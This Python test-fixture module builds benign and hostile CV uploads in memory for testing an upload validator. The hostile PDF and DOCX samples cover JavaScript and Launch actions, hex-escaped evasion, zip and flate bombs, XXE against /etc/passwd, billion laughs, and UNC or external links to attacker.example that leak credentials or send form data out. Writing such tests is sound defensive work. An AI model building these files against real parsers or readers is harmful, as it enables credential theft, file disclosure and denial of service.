"""Real files, built in memory, for upload tests: valid ones and the attacker's."""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

from docx import Document


def _pdf(objects: list[bytes], catalog_extra: bytes = b"") -> bytes:
    """A well-formed PDF: objects numbered from 3 (1 is the catalog, 2 the page tree)."""
    body = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>"]
    body.extend(objects)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(body, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(body) + 1, xref))
    return out.getvalue()


def _page_objects(lines: list[str], page_extra: bytes = b"") -> list[bytes]:
    """Objects 2 (pages), 3 (page), 4 (content), 5 (font)."""
    stream = b"BT /F1 12 Tf 72 720 Td 14 TL "
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        stream += b"(" + escaped.encode("latin-1") + b") Tj T* "
    stream += b"ET"
    return [
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]


def _with_tree(objects: list[bytes], catalog_extra: bytes = b"") -> bytes:
    # _pdf numbers the catalog 1; the page tree must be object 2.
    return _pdf(objects, catalog_extra)


def pdf_with_text(text: str = "Experienced data engineer. Python, Kafka, SQL.") -> bytes:
    return _with_tree(_page_objects(text.splitlines() or [""]))


def pdf_scan() -> bytes:
    """A PDF with a page but no text (what a scanned CV looks like to a text extractor)."""
    return _with_tree(_page_objects([]))


def pdf_with_javascript() -> bytes:
    objects = _page_objects(["Hello"])
    objects.append(b"<< /S /JavaScript /JS (app.alert\\('hi'\\)) >>")
    return _with_tree(objects, b"/Names << /JavaScript << /Names [(x) 6 0 R] >> >> ")


def pdf_with_open_action() -> bytes:
    objects = _page_objects(["Hello"])
    objects.append(b"<< /S /URI /URI (https://evil.example/) >>")
    return _with_tree(objects, b"/OpenAction 6 0 R ")


def pdf_with_launch() -> bytes:
    return _with_tree(_page_objects(["Hello"], b"/AA << /O << /S /Launch /F (calc.exe) >> >> "))


def pdf_with_hex_encoded_javascript() -> bytes:
    """/J#61vaScript is /JavaScript: names may be hex-escaped to dodge byte scanners."""
    objects = _page_objects(["Hello"])
    objects.append(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")
    return _with_tree(objects, b"/OpenAct#69on 6 0 R ")


def pdf_with_embedded_file() -> bytes:
    objects = _page_objects(["Hello"])
    payload = b"MZ this would be an executable"
    objects.append(b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload
                   + b"\nendstream")
    objects.append(b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>")
    return _with_tree(objects, b"/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >> ")


def pdf_with_pages(count: int, text: str = "page") -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + i * 2) for i in range(count))
    objects = [b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count]
    for i in range(count):
        stream = b"BT /F1 12 Tf 72 720 Td (" + f"{text} {i + 1}".encode() + b") Tj ET"
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
                       b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (4 + i * 2, 3 + count * 2))
        objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return _with_tree(objects)


def docx_with_text(text: str = "Experienced data engineer. Python, Kafka, SQL.") -> bytes:
    document = Document()
    for line in text.splitlines() or [""]:
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rezip(source: bytes, replace: dict[str, bytes] | None = None,
           add: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = (replace or {}).get(info.filename, old.read(info.filename))
            new.writestr(info.filename, data)
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return out.getvalue()


def docx_zip_bomb() -> bytes:
    """Declares (and would inflate to) 200 MiB of zeros in a small archive."""
    out = io.BytesIO()
    base = docx_with_text("bomb")
    with zipfile.ZipFile(io.BytesIO(base)) as old, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, old.read(info.filename))
        with new.open("word/media/zeros.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(200):
                member.write(chunk)
    return out.getvalue()


def docx_with_many_entries(count: int = 2_000) -> bytes:
    return _rezip(docx_with_text("many"), add={f"word/x/{i}.xml": b"<a/>" for i in range(count)})


def docx_nested_archive() -> bytes:
    inner = docx_with_text("inner")
    return _rezip(docx_with_text("outer"), add={"word/embeddings/inner.dat": inner})


def docx_with_macros() -> bytes:
    return _rezip(docx_with_text("macro"), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"})


def _document_xml(body: str, doctype: str) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>").encode()


def docx_with_xxe(target: str = "file:///etc/passwd") -> bytes:
    xml = _document_xml("&xxe;", f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "{target}">]>')
    return _rezip(docx_with_text("x"), replace={"word/document.xml": xml})


def docx_billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10))
    xml = _document_xml("&lol9;", f"<!DOCTYPE d [{entities}]>")
    return _rezip(docx_with_text("x"), replace={"word/document.xml": xml})


def zip_named_pdf() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "not a cv")
    return out.getvalue()


def html_named_pdf() -> bytes:
    return b"<!doctype html><html><script>alert(1)</script></html>"


def png_named_pdf() -> bytes:
    return (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02"
            b"\x00\x00\x00\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00"
            b"\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")


def pdf_flate_bomb(inflated: int = 18 * 1024 * 1024) -> bytes:
    """The review's shape: a small PDF whose one page content stream inflates to 18 MB
    of drawing operators (the parser's work grows with them, not with the file)."""
    pattern = b"0 0 m 100 100 l S BT /F1 12 Tf (bomb) Tj ET\n"
    raw = pattern * (inflated // len(pattern))
    packed = zlib.compress(raw, 9)
    objects = _page_objects(["Hello"])
    objects[2] = (b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed
                  + b"\nendstream")
    return _with_tree(objects)


def pdf_slow_to_read(lines: int = 20_000) -> bytes:
    """Under every limit but slow: one page of 20,000 text lines takes the parser most
    of a second of CPU (its text reaches MAX_TEXT_CHARS), far past a 50 ms wall clock."""
    return _with_tree(_page_objects([f"line {number}" for number in range(lines)]))


def pdf_with_many_inflating_streams(count: int = 4, inflated: int = 3 * 1024 * 1024) -> bytes:
    """Each stream under the per-stream cap, together over the whole-file cap."""
    packed = zlib.compress(b" " * inflated, 9)
    kids = b" ".join(b"%d 0 R" % (3 + i * 2) for i in range(count))
    objects = [b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count]
    for i in range(count):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
                       b"/Resources << /Font << /F1 %d 0 R >> >> >>"
                       % (4 + i * 2, 3 + count * 2))
        objects.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed
                       + b"\nendstream")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return _with_tree(objects)


# --- DOCX shapes real word processors write, and the attacker's variants -------------

NS_DECL = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
           'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _docx_raw(body_xml: str, *, header: str | None = None, rels: str = "",
              parts: dict[str, bytes] | None = None,
              replace: dict[str, bytes] | None = None) -> bytes:
    """A python-docx document whose body is `body_xml` (raw WordprocessingML), with an
    optional header text, extra document relationships and extra parts."""
    document = Document()
    document.add_paragraph("__RAW__")
    if header is not None:
        document.sections[0].header.paragraphs[0].text = header
    out = io.BytesIO()
    document.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        xml = archive.read("word/document.xml").decode()
        relationships = archive.read("word/_rels/document.xml.rels").decode()
    xml = xml.replace("<w:p><w:r><w:t>__RAW__</w:t></w:r></w:p>", body_xml)
    relationships = relationships.replace("</Relationships>", rels + "</Relationships>")
    return _rezip(out.getvalue(), replace={"word/document.xml": xml.encode(),
                                           "word/_rels/document.xml.rels": relationships.encode(),
                                           **(replace or {})}, add=parts)


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"


def _text_box(text: str) -> str:
    """A text box as Word writes it: a DrawingML shape in mc:Choice and the same text
    again as a VML shape in mc:Fallback."""
    return (
        "<w:r><mc:AlternateContent><mc:Choice Requires=\"wps\"><w:drawing><wp:anchor>"
        "<a:graphic xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\">"
        "<a:graphicData><wps:wsp><wps:txbx><w:txbxContent>" + _p(text) +
        "</w:txbxContent></wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:anchor>"
        "</w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox><w:txbxContent>"
        + _p(text) + "</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback>"
        "</mc:AlternateContent></w:r>")


FOOTNOTES = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes {NS_DECL}>'
             '<w:footnote w:id="1"><w:p><w:r><w:t>Footnote remark</w:t></w:r></w:p>'
             "</w:footnote></w:footnotes>").encode()
FOOTER = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr {NS_DECL}>'
          "<w:p><w:r><w:t>Footer line</w:t></w:r></w:p></w:ftr>").encode()


def docx_like_word() -> bytes:
    """Header, footer, footnote, a nested table, a text box (twice in the file), a
    hyperlink, a content control, a field and a tracked deletion, as Word writes them."""
    body = (
        _p("Profile")
        + "<w:p><w:r><w:t>Anchor</w:t></w:r>" + _text_box("Boxed skill") + "</w:p>"
        + "<w:tbl><w:tr><w:tc>" + _p("Cell one")
        + "<w:tbl><w:tr><w:tc>" + _p("Nested cell") + "</w:tc></w:tr></w:tbl>"
        + "</w:tc><w:tc>" + _p("Cell two") + "</w:tc></w:tr></w:tbl>"
        + "<w:p><w:hyperlink r:id=\"rIdLink\"><w:r><w:t>LinkedIn profile</w:t></w:r>"
        "</w:hyperlink></w:p>"
        + "<w:sdt><w:sdtPr><w:alias w:val=\"Skills\"/></w:sdtPr><w:sdtContent>"
        + _p("Controlled text") + "</w:sdtContent></w:sdt>"
        + "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>"
        " PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
        "<w:r><w:t>Fieldresult</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
        + "<w:p><w:r><w:t>Kept</w:t></w:r><w:del><w:r><w:delText>Deleted</w:delText></w:r>"
        "</w:del><w:r><w:footnoteReference w:id=\"1\"/></w:r></w:p>"
        + "<w:sectPr><w:headerReference w:type=\"default\" r:id=\"rId9\"/>"
        "<w:footerReference w:type=\"default\" r:id=\"rIdFooter\"/></w:sectPr>")
    rels = (f'<Relationship Id="rIdLink" Type="{REL_TYPE}hyperlink" '
            'Target="https://www.linkedin.com/in/example" TargetMode="External"/>'
            f'<Relationship Id="rIdNotes" Type="{REL_TYPE}footnotes" Target="footnotes.xml"/>'
            f'<Relationship Id="rIdFooter" Type="{REL_TYPE}footer" Target="footer1.xml"/>')
    docx = _docx_raw(body, header="Anna Peeters", rels=rels,
                     parts={"word/footnotes.xml": FOOTNOTES, "word/footer1.xml": FOOTER})
    # python-docx already wrote a sectPr: keep only ours.
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        xml = archive.read("word/document.xml").decode()
    first = xml.index("<w:sectPr w:rsid")
    xml = xml[:first] + xml[xml.index("</w:sectPr>", first) + len("</w:sectPr>"):]
    return _rezip(docx, replace={"word/document.xml": xml.encode()})


def _with_settings_rels(rels: str) -> dict[str, bytes]:
    return {"word/_rels/settings.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + rels + "</Relationships>").encode()}


def docx_with_external_template() -> bytes:
    """Word fetches an attached template on opening: from a UNC path, that is a
    credentials leak (and a .dotm runs macros)."""
    settings = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings '
                f'{NS_DECL}><w:attachedTemplate r:id="rId1"/></w:settings>').encode()
    rels = (f'<Relationship Id="rId1" Type="{REL_TYPE}attachedTemplate" '
            'Target="file://attacker.example/share/cv.dotm" TargetMode="External"/>')
    return _docx_raw(_p("Template"), replace={"word/settings.xml": settings},
                     parts=_with_settings_rels(rels))


def docx_with_alt_chunk() -> bytes:
    """altChunk imports another document (HTML, RTF, even a DOCX) into the body."""
    rels = (f'<Relationship Id="rIdChunk" Type="{REL_TYPE}aFChunk" Target="chunk.html"/>')
    return _docx_raw(_p("Before") + '<w:altChunk r:id="rIdChunk"/>', rels=rels,
                     parts={"word/chunk.html": b"<html><body>imported</body></html>"})


def docx_with_dtd_in_settings() -> bytes:
    settings = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<!DOCTYPE s [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
                f'<w:settings {NS_DECL}><w:zoom w:percent="100"/></w:settings>').encode()
    return _docx_raw(_p("Settings"), replace={"word/settings.xml": settings})


def docx_with_ole_object() -> bytes:
    return _docx_raw('<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="rIdX"/>'
                     "</w:object></w:r></w:p>")


def docx_with_external_image() -> bytes:
    """An image linked, not embedded: fetched from the server on opening."""
    rels = (f'<Relationship Id="rIdImg" Type="{REL_TYPE}image" '
            'Target="http://attacker.example/pixel.png" TargetMode="External"/>')
    return _docx_raw(_p("Pixel"), rels=rels)


def docx_with_include_picture_field() -> bytes:
    return _docx_raw('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                     ' INCLUDEPICTURE "\\\\attacker\\share\\p.png" \\d </w:instrText></w:r>'
                     '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def docx_with_file_hyperlink() -> bytes:
    rels = (f'<Relationship Id="rIdLink" Type="{REL_TYPE}hyperlink" '
            'Target="file://attacker.example/share/run.exe" TargetMode="External"/>')
    return _docx_raw('<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>click</w:t></w:r>'
                     "</w:hyperlink></w:p>", rels=rels)


def docx_from_local_template() -> bytes:
    """What Word writes for a CV made from a template on the author's own disk."""
    settings = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings '
                f'{NS_DECL}><w:attachedTemplate r:id="rId1"/></w:settings>').encode()
    rels = (f'<Relationship Id="rId1" Type="{REL_TYPE}attachedTemplate" Target="file:///C:\\'
            'Users\\anna\\AppData\\Roaming\\Microsoft\\Templates\\CV.dotx" '
            'TargetMode="External"/>')
    return _docx_raw(_p("From a template"), replace={"word/settings.xml": settings},
                     parts=_with_settings_rels(rels))


# --- PDFs as real producers write them -----------------------------------------------

FIXTURES = Path(__file__).resolve().parent / "fixtures"


def libreoffice_pdf(name: str) -> bytes:
    return (FIXTURES / f"libreoffice-{name}.pdf").read_bytes()


def pdf_like_word() -> bytes:
    """The shape Word's "Save as PDF" writes: a tagged structure tree (/S /P elements),
    an outline with /GoTo actions, named destinations, a web link and an internal link,
    and /OpenAction on the first page (/Fit)."""
    objects = _page_objects(["Anna Peeters", "Data engineer"],
                            b"/Annots [6 0 R 7 0 R] /StructParents 0 ")
    objects += [
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /Border [0 0 0] "
        b"/A << /Type /Action /S /URI /URI (https://www.linkedin.com/in/example) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 680 200 692] /Border [0 0 0] "
        b"/A << /S /GoTo /D (_Toc1) >> >>",
        b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
        b"<< /Title (Experience) /Parent 8 0 R /A << /S /GoTo /D [3 0 R /XYZ 72 720 0] >> >>",
        b"<< /Type /StructTreeRoot /K [11 0 R] >>",
        b"<< /Type /StructElem /S /P /P 10 0 R /Pg 3 0 R /K 0 >>",
        b"<< /Names [(_Toc1) [3 0 R /FitH 700]] >>",
    ]
    return _with_tree(objects, b"/OpenAction [3 0 R /Fit] /Outlines 8 0 R "
                               b"/StructTreeRoot 10 0 R /MarkInfo << /Marked true >> "
                               b"/Names << /Dests 12 0 R >> /PageMode /UseOutlines "
                               b"/Lang (nl-BE) ")


def pdf_hyphenated_with_ligatures() -> bytes:
    """Reportlab with an embedded TrueType font: a word hyphenated at a line end, one
    split by a soft hyphen, and the ligature characters fi and fl."""
    import reportlab
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.ttfonts import TTFont
    from reportlab.pdfgen import canvas

    # Bitstream Vera ships with reportlab and has the ligature and soft-hyphen glyphs.
    font = Path(reportlab.__file__).parent / "fonts" / "Vera.ttf"
    pdfmetrics.registerFont(TTFont("VaultVera", str(font)))
    out = io.BytesIO()
    page = canvas.Canvas(out, pagesize=(595, 842))
    page.setFont("VaultVera", 12)
    for y, line in ((760, "Ervaren software-"), (745, "ingenieur en data-"),
                    (730, "engineer bij Ingenium."), (715, "Certi\ufb01ed in Kafka, "
                                                          "\ufb02exible, gebruiksvriende\u00ad"),
                    (700, "lijk."), (685, "Jean-"), (670, "Pierre is a colleague.")):
        page.drawString(72, y, line)
    page.showPage()
    page.save()
    return out.getvalue()


def _pdf_with_link_action(action: bytes) -> bytes:
    objects = _page_objects(["Hello"], b"/Annots [6 0 R] ")
    objects.append(b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /A " + action
                   + b" >>")
    return _with_tree(objects)


def pdf_with_gotor_unc() -> bytes:
    """Opening another file from a share: the viewer authenticates to that machine."""
    return _pdf_with_link_action(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\cv.pdf) "
                                 b"/D [0 /Fit] /NewWindow true >>")


def pdf_with_gotoe() -> bytes:
    return _pdf_with_link_action(b"<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>")


def pdf_with_submit_form() -> bytes:
    return _pdf_with_link_action(b"<< /S /SubmitForm /F << /FS /URL /F "
                                 b"(https://attacker.example/collect) >> >>")


def pdf_with_import_data() -> bytes:
    return _pdf_with_link_action(b"<< /S /ImportData /F (data.fdf) >>")


def pdf_with_file_uri() -> bytes:
    return _pdf_with_link_action(b"<< /S /URI /URI (file://attacker.example/share/x.exe) >>")


def pdf_with_web_link() -> bytes:
    return _pdf_with_link_action(b"<< /S /URI /URI (https://github.com/example) >>")


def pdf_with_goto_then_launch() -> bytes:
    """A harmless-looking /GoTo with a /Launch chained after it."""
    return _pdf_with_link_action(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch "
                                 b"/F (calc.exe) >> >>")


def pdf_with_print_named_action() -> bytes:
    return _with_tree(_page_objects(["Hello"]), b"/OpenAction << /S /Named /N /Print >> ")


def pdf_opening_on_a_page() -> bytes:
    return _with_tree(_page_objects(["Hello"]),
                      b"/OpenAction << /S /GoTo /D [3 0 R /XYZ null null 0] >> ")


def pdf_scanned_cv(lines: tuple[str, ...] = ("Curriculum vitae", "Ervaren ingenieur",
                                             "Kubernetes Python Kafka",
                                             "Bruxelles, Belgique")) -> bytes:
    """A page that is one image of printed text, as a scanner makes it (no text layer)."""
    import reportlab
    from PIL import Image, ImageDraw, ImageFont
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    image = Image.new("L", (1240, 1754), 255)  # A4 at 150 dpi
    draw = ImageDraw.Draw(image)
    font = ImageFont.truetype(str(Path(reportlab.__file__).parent / "fonts" / "Vera.ttf"), 40)
    for index, line in enumerate(lines):
        draw.text((100, 150 + index * 80), line, fill=0, font=font)
    out = io.BytesIO()
    page = canvas.Canvas(out, pagesize=(595, 842))
    page.drawImage(ImageReader(image), 0, 0, 595, 842)
    page.showPage()
    page.save()
    return out.getvalue()


def docx_with_dtd_in_a_renamed_part() -> bytes:
    """Settings under another name: the relationship, not the name, makes it settings."""
    settings = (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE s [<!ENTITY x SYSTEM '
                f'"http://attacker.example/x">]><w:settings {NS_DECL}/>').encode()
    rels = f'<Relationship Id="rIdS" Type="{REL_TYPE}settings" Target="settings.dat"/>'
    return _docx_raw(_p("Renamed"), rels=rels, parts={"word/settings.dat": settings})
